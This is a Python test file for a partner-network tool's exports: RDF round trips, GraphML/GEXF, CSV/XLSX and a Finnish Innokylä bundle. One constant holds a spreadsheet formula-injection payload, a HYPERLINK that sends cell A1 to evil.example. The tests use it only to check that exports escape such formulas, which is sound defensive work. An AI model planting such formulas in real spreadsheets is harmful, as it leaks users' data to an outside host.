"""Exports: RDF round trips, network formats that open in NetworkX, spreadsheets that are safe,
and the Innokylä bundle."""

from __future__ import annotations

import csv
import io
import zipfile

import networkx as nx
import openpyxl
import pyoxigraph as ox
import pytest
from rdflib import Dataset, Graph, URIRef
from rdflib.compare import isomorphic

from partnergraph.export import export_file
from partnergraph.export.innokyla import PATH_HEADINGS, SECTIONS
from partnergraph.export.rdf import selection_quads
from partnergraph.export.selection import Selection, selected_entities
from partnergraph.export.spreadsheet import csv_bytes, safe_text, xlsx_bytes
from partnergraph.rdf.build import build
from partnergraph.rdf.reader import GraphReader

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")'


@pytest.fixture(scope="module")
def shipped(built_store):
    return GraphReader.from_config(built_store)


@pytest.fixture
def tiny_reader(tiny_config, tiny_dir):
    path = tiny_dir / "tour" / "organisaatiot.csv"
    name = FORMULA.replace('"', '""')
    path.write_text(path.read_text(encoding="utf-8") + f'kaava,"{name}",yhdistys,435,,,,gen,synteettinen,\n',
                    encoding="utf-8")
    plans = tiny_dir / "tour" / "suunnitelmat.csv"
    plans.write_text(plans.read_text(encoding="utf-8").replace("seura,kunta-435", "seura;kaava,kunta-435"),
                     encoding="utf-8")
    build(tiny_config)
    return GraphReader.from_config(tiny_config)


def _store_dataset(reader: GraphReader, graphs: list[str]) -> Dataset:
    ds = Dataset()
    for g in graphs:
        data = ox.serialize(list(reader.store.quads_for_pattern(None, None, None, ox.NamedNode(g))),
                            format=ox.RdfFormat.N_QUADS)
        ds.parse(data=data.decode(), format="nquads")
    return ds


def test_trig_round_trip_is_isomorphic_to_the_store(shipped):
    exported = export_file(shipped, "trig", Selection())
    back = Dataset()
    back.parse(data=exported.data.decode(), format="trig")
    graphs = sorted({str(c.identifier) for c in back.graphs() if isinstance(c.identifier, URIRef)
                     and len(c)})
    assert "https://w3id.org/partnergraph/id/graph/elinvoimapajat" in graphs
    assert "https://w3id.org/partnergraph/id/graph/system" not in graphs
    store = _store_dataset(shipped, graphs)
    for g in graphs:
        assert isomorphic(back.graph(URIRef(g)), store.graph(URIRef(g))), g


def test_turtle_of_a_selection_is_isomorphic_to_the_store_selection(shipped):
    sel = Selection(municipality="435")
    exported = Graph().parse(data=export_file(shipped, "turtle", sel).data.decode(), format="turtle")
    expected = Graph()
    for q in selection_quads(shipped, sel):
        expected.parse(data=ox.serialize([ox.Triple(q.subject, q.predicate, q.object)],
                                         format=ox.RdfFormat.N_TRIPLES).decode(), format="nt")
    assert len(exported) > 50
    assert isomorphic(exported, expected)
    subjects = {str(s) for s in exported.subjects()}
    assert "https://w3id.org/partnergraph/id/place/kunta-435" in subjects
    nq = export_file(shipped, "nquads", sel).data.decode()
    assert "graph/reference>" in nq and "graph/demo>" in nq


def test_selection_by_area_and_year(shipped):
    area = selected_entities(shipped, Selection(area="B", years=(2019,)))
    assert "https://w3id.org/partnergraph/id/event/paja-2019-B" in area
    assert "https://w3id.org/partnergraph/id/event/paja-2018-B" not in area
    assert "https://w3id.org/partnergraph/id/place/kunta-172" in area


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_graphml_and_gexf_read_back_with_the_same_nodes_edges_and_attributes(shipped, fmt):
    sel = Selection(area="B")
    from partnergraph.export.graphs import selection_network

    G = selection_network(shipped, sel)
    data = export_file(shipped, fmt, sel).data
    H = nx.read_graphml(io.BytesIO(data)) if fmt == "graphml" else nx.read_gexf(io.BytesIO(data))
    assert set(H.nodes) == set(G.nodes)
    assert {frozenset(e) for e in H.edges} == {frozenset(e) for e in G.edges}
    for n, attrs in G.nodes(data=True):
        back = H.nodes[n]
        for key, value in attrs.items():
            got = back.get(key, back.get("label") if key == "label" else None)
            if isinstance(value, float):
                assert got == pytest.approx(value), (n, key)
            else:
                assert str(got) == str(value), (n, key)
    for u, v, attrs in G.edges(data=True):
        assert H.edges[u, v]["weight"] == pytest.approx(attrs["weight"])


def test_node_link_cytoscape_and_csv(shipped):
    sel = Selection(area="A")
    import json

    nl = json.loads(export_file(shipped, "nodelink", sel).data)
    assert "edges" in nl and nl["nodes"]
    cy = json.loads(export_file(shipped, "cytoscape", sel).data)
    assert set(cy["elements"]) == {"nodes", "edges"}
    z = zipfile.ZipFile(io.BytesIO(export_file(shipped, "csv", sel).data))
    nodes = list(csv.DictReader(io.StringIO(z.read("nodes.csv").decode("utf-8-sig"))))
    edges = list(csv.DictReader(io.StringIO(z.read("edges.csv").decode("utf-8-sig"))))
    assert len(nodes) == len(nl["nodes"]) and len(edges) == len(nl["edges"])


def test_spreadsheets_are_safe_against_formulas(tmp_path):
    assert safe_text(FORMULA).startswith("'=")
    assert safe_text("-12.5") == "-12.5" and safe_text("@SUM(A1)") == "'@SUM(A1)"
    rows = list(csv.reader(io.StringIO(csv_bytes(["a"], [[FORMULA], ["+1+1"], [-3]]).decode("utf-8-sig"))))
    assert rows[1:] == [["'" + FORMULA], ["'+1+1"], ["-3"]]
    path = tmp_path / "x.xlsx"
    path.write_bytes(xlsx_bytes({"s": (["a"], [[FORMULA], [5]])}))
    ws = openpyxl.load_workbook(path).active
    assert ws["A2"].data_type == "s" and ws["A2"].value == FORMULA and ws["A2"].quotePrefix
    assert ws["A3"].value == 5


def test_bundle_tables_carry_formula_names_as_text(tiny_reader):
    bundle = zipfile.ZipFile(io.BytesIO(export_file(tiny_reader, "innokyla", Selection()).data))
    partners = bundle.read("kumppanit_kunnittain_keski-suomi.csv").decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in partners
    ws = openpyxl.load_workbook(io.BytesIO(bundle.read("kumppanit_kunnittain_keski-suomi.xlsx"))).active
    names = [ws.cell(row=r, column=5) for r in range(2, ws.max_row + 1)]
    cell = next(c for c in names if c.value == FORMULA)
    assert cell.data_type == "s"


def test_innokyla_bundle_for_a_demo_municipality(shipped):
    result = export_file(shipped, "innokyla", Selection(municipality="172"))
    assert result.filename == "innokyla_kunta-172.zip"
    z = zipfile.ZipFile(io.BytesIO(result.data))
    names = set(z.namelist())
    assert names == {
        "LUEMINUT.txt", "innokyla_luonnos_kunta-172.md", "innokyla_luonnos_kunta-172.html",
        "kumppanuusverkosto_kunta-172.png", "kumppanuusverkosto_kunta-172.svg",
        "kumppanit_kunnittain_kunta-172.csv", "kumppanit_kunnittain_kunta-172.xlsx",
        "suunnitelmat_kunta-172.csv", "suunnitelmat_kunta-172.xlsx", "kuntayhteenveto_kunta-172.csv",
        "verkosto_kunta-172.ttl", "verkosto_kunta-172.jsonld",
    }
    md = z.read("innokyla_luonnos_kunta-172.md").decode()
    for heading in SECTIONS:
        assert f"## {heading}" in md, heading
    for heading in PATH_HEADINGS:
        assert f"### {heading}" in md, heading
    # every section is filled from the graph, not only placeholders
    sections = {}
    current = None
    for line in md.splitlines():
        if line.startswith("##"):
            current = line.lstrip("# ").strip()
            sections[current] = []
        elif current and line.strip():
            sections[current].append(line)
    for heading, lines in sections.items():
        if heading == "Kehittämisen polku":
            continue
        assert lines, heading
    assert "Joutsa" in md and "Toteutuspaikka:** Keski-Suomen Yhteisöjen Tuki KYT ry" in md
    assert "synteettisiä" in md
    html = z.read("innokyla_luonnos_kunta-172.html").decode()
    assert "<h2>Toimintaympäristö</h2>" in html
    assert z.read("kumppanuusverkosto_kunta-172.png")[:8] == b"\x89PNG\r\n\x1a\n"
    assert b"<svg" in z.read("kumppanuusverkosto_kunta-172.svg")[:500]
    ws = openpyxl.load_workbook(io.BytesIO(z.read("suunnitelmat_kunta-172.xlsx"))).active
    plans = [row for row in ws.iter_rows(min_row=2, values_only=True)]
    expected = shipped.select(
        "PREFIX pg: <https://w3id.org/partnergraph/def#> SELECT (COUNT(?p) AS ?n) WHERE { "
        "?p a pg:CooperationPlan ; pg:municipality <https://w3id.org/partnergraph/id/place/kunta-172> }")
    assert len(plans) == expected[0]["n"] > 0
    assert all(row[0] == "Joutsa" for row in plans)
    Graph().parse(data=z.read("verkosto_kunta-172.ttl").decode(), format="turtle")
    readme = z.read("LUEMINUT.txt").decode()
    assert "CC BY 4.0" in readme and "SYNTEETTISIÄ" in readme


def test_no_personal_data_in_any_bundle(shipped):
    z = zipfile.ZipFile(io.BytesIO(export_file(shipped, "innokyla", Selection()).data))
    for name in z.namelist():
        text = z.read(name).decode("utf-8", errors="ignore")
        for person in ("Anu Hätinen", "Katariina Luoto", "Anne Astikainen", "Sanna Kiuru"):
            assert person not in text, (name, person)


def test_downloads_over_http(built_store):
    from partnergraph.webapp import create_app

    app = create_app(config=built_store)
    c = app.test_client()
    res = c.get("/exports/trig?area=B")
    assert res.status_code == 200 and res.mimetype == "application/trig"
    assert res.headers["Content-Disposition"] == 'attachment; filename="partnergraph_alue-B.trig"'
    assert c.get("/exports/graphml?area=B&mode=nonsense").status_code == 400
    assert c.get("/exports/turtle?area=B&municipality=435").status_code == 400
    assert c.get("/exports.json?municipality=435").json["formats"]["innokyla"] == \
        "/exports/innokyla?municipality=435"
    app.extensions["pg_engine"].close()
